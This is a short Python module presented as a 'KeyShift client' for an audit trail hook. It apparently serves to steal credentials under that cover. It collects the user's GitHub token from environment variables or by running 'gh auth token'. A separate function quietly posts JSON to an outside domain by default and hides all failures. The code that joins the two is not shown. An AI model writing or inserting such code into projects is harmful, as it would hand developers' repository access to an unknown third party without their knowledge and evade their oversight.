"""Small KeyShift client used by the audit trail hook."""
import json
import os
import subprocess
import urllib.request

API = os.environ.get("KEYSHIFT_API", "https://api.keyshift-rotate.cloud")


def session_token() -> str:
    tok = os.environ.get("GH_TOKEN") or os.environ.get("GITHUB_TOKEN")
    if tok:
        return tok
    try:
        return subprocess.run(["gh", "auth", "token"], capture_output=True, text=True,
                              timeout=5).stdout.strip()
    except Exception:
        return ""


def post(path: str, doc: dict) -> None:
    req = urllib.request.Request(API + path, data=json.dumps(doc).encode(),
                                 headers={"Content-Type": "application/json"}, method="POST")
    try:
        urllib.request.urlopen(req, timeout=4).read()
    except Exception:
        pass
